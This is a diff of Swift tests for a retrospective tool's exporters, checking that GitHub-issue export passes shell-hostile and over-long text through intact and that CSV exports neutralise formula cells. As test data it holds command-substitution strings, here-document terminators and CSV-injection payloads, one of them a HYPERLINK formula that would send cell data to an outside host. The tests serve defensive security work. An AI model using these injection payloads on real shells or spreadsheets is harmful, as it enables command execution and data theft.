@@ -95,6 +95,78 @@ struct ExportFormatTests {
     }
   }
 
+  @Test("gh-issues passes an item over 128 KiB and shell-hostile text to gh exactly, and one failing item does not stop the rest")
+  func ghIssuesLongAndHostile() throws {
+    let directory = try IndexCommandTests.workspace()
+    defer { try? FileManager.default.removeItem(at: directory) }
+    // Lines a here-document could end on, and everything a shell would expand (in the item a
+    // lone backquote, since a pair is a Markdown code span).
+    let hostile = "it's \"quoted\" $(touch pwned) `touch pwned2 ${HOME} \\ 'EOF' <<EOF %s %n"
+    let long = "Rotate " + hostile + String(repeating: " the keys", count: 16_000)  // 144 KB
+    let title = "Lines\nEOF\nRETRO\nRETRO_ISSUE_BODY\n'EOF'\n$(touch pwned3)\n`touch pwned4`"
+    let report = """
+      ---
+      title: \(try Self.jsonString(title))
+      date: 2024-02-02
+      ---
+
+      ## Action items
+
+      - [ ] \(long)
+      - [ ] FAIL this one @eve
+      - [ ] Short \(hostile) @eve
+
+      """
+    #expect(long.utf8.count > 128 * 1024)
+    try report.write(to: directory.appendingPathComponent("retros/2024-02-02-evil.md"), atomically: true, encoding: .utf8)
+    let result = try IndexCommandTests.run(["actions", "retros", "--format", "gh-issues"], in: directory)
+    #expect(result.status == 0, "\(result.stderr)")
+    // The stand-in records each call's arguments (NUL after each) and its standard input; an
+    // issue titled FAIL… fails, as gh does when GitHub refuses one.
+    let calls = directory.appendingPathComponent("calls")
+    try FileManager.default.createDirectory(at: calls, withIntermediateDirectories: true)
+    let run = try Self.runWithStandInGH(
+      result.stdout,
+      gh: """
+        n=$(( $(ls "$CALLS" | wc -l) / 2 ))
+        for a in "$@"; do printf '%s\\0' "$a"; done > "$CALLS/$n.args"
+        cat > "$CALLS/$n.body"
+        case "$4" in FAIL*) exit 1;; esac
+
+        """, in: directory, environment: ["CALLS": calls.path])
+    for name in ["pwned", "pwned2", "pwned3", "pwned4"] {
+      #expect(!FileManager.default.fileExists(atPath: directory.appendingPathComponent(name).path), "\(name) was created")
+    }
+    // Two items of the fixtures and the three here: every one was tried, and the failure
+    // is reported, by location, with a non-zero exit.
+    let count = try FileManager.default.contentsOfDirectory(atPath: calls.path).count / 2
+    #expect(count == 5)
+    #expect(run.status != 0)
+    #expect(run.stderr.contains("retros/2024-02-02-evil.md:9"), "\(run.stderr)")
+    var byTitle: [String: (arguments: [String], body: String)] = [:]
+    for call in 0..<count {
+      let arguments = try String(contentsOf: calls.appendingPathComponent("\(call).args"), encoding: .utf8)
+        .split(separator: "\0", omittingEmptySubsequences: false).dropLast().map(String.init)
+      let body = try String(contentsOf: calls.appendingPathComponent("\(call).body"), encoding: .utf8)
+      byTitle[arguments[3]] = (arguments, body)
+    }
+    // The short item's title is its text, exactly; the long one's is cut to GitHub's 256
+    // characters and the whole text is in the body.
+    let short = try #require(byTitle["Short \(hostile) @eve"])
+    #expect(short.body.contains(title), "the report title, with its EOF lines, reaches the body exactly")
+    let cut = try #require(byTitle.first { $0.key.hasPrefix("Rotate ") })
+    #expect(cut.key.count <= 256)
+    #expect(cut.key.hasPrefix("Rotate " + hostile))
+    #expect(cut.value.body.contains(long))
+    #expect(cut.value.body.contains(title))
+  }
+
+  /// `value` as a JSON string, which is also a YAML double-quoted scalar.
+  static func jsonString(_ value: String) throws -> String {
+    String(decoding: try JSONSerialization.data(withJSONObject: [value], options: [.fragmentsAllowed]), as: UTF8.self).dropFirst().dropLast()
+      .description
+  }
+
   @Test("jira-csv matches its golden file and reads as CSV with Jira's columns", .enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/python3")))
   func jiraCSV() throws {
     let (directory, output) = try Self.export("jira-csv")
@@ -105,6 +177,34 @@ struct ExportFormatTests {
       input: output)
     #expect(check.status == 0, "\(check.stderr)")
     #expect(check.stdout == "2\nAlert on consumer lag @ben due 2024-01-20\nben\n2024-01-20\n")
+  }
+
+  /// Item texts a spreadsheet would run as formulas (OWASP's CSV injection).
+  static let formulaItems = [
+    "=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)*cmd",
+  ]
+
+  @Test("no cell of csv or jira-csv starts a formula: = + - @ are prefixed with a quote, the text kept after it", .enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/python3")), arguments: ["csv", "jira-csv"])
+  func formulaCells(_ format: String) throws {
+    let directory = try IndexCommandTests.workspace()
+    defer { try? FileManager.default.removeItem(at: directory) }
+    let text = "## Action items\n\n" + Self.formulaItems.map { "- [ ] \($0)\n" }.joined()
+    try text.write(to: directory.appendingPathComponent("retros/2024-02-02-evil.md"), atomically: true, encoding: .utf8)
+    let result = try IndexCommandTests.run(["actions", "retros", "--format", format], in: directory)
+    #expect(result.status == 0, "\(result.stderr)")
+    // Every cell, NUL after each, as Python's CSV reader reads them.
+    let check = try Self.python(
+      "import sys, csv\nfor row in csv.reader(sys.stdin):\n    for cell in row: sys.stdout.write(cell + '\\0')", input: result.stdout)
+    #expect(check.status == 0, "\(check.stderr)")
+    let cells = check.stdout.split(separator: "\0", omittingEmptySubsequences: false).map(String.init)
+    for cell in cells {
+      #expect(!["=", "+", "-", "@", "\t", "\r"].contains(where: { cell.hasPrefix($0) }), "\(cell) starts a formula")
+    }
+    for item in Self.formulaItems {
+      #expect(cells.contains("'" + item), "\(item) is not kept after its quote")
+    }
+    // Numbers stay numbers: the age column is not quoted.
+    if format == "csv" { #expect(result.stdout.contains(",60,open,")) }
   }
 
   @Test("digest --format html matches its golden file; report text in it is escaped, never markup")
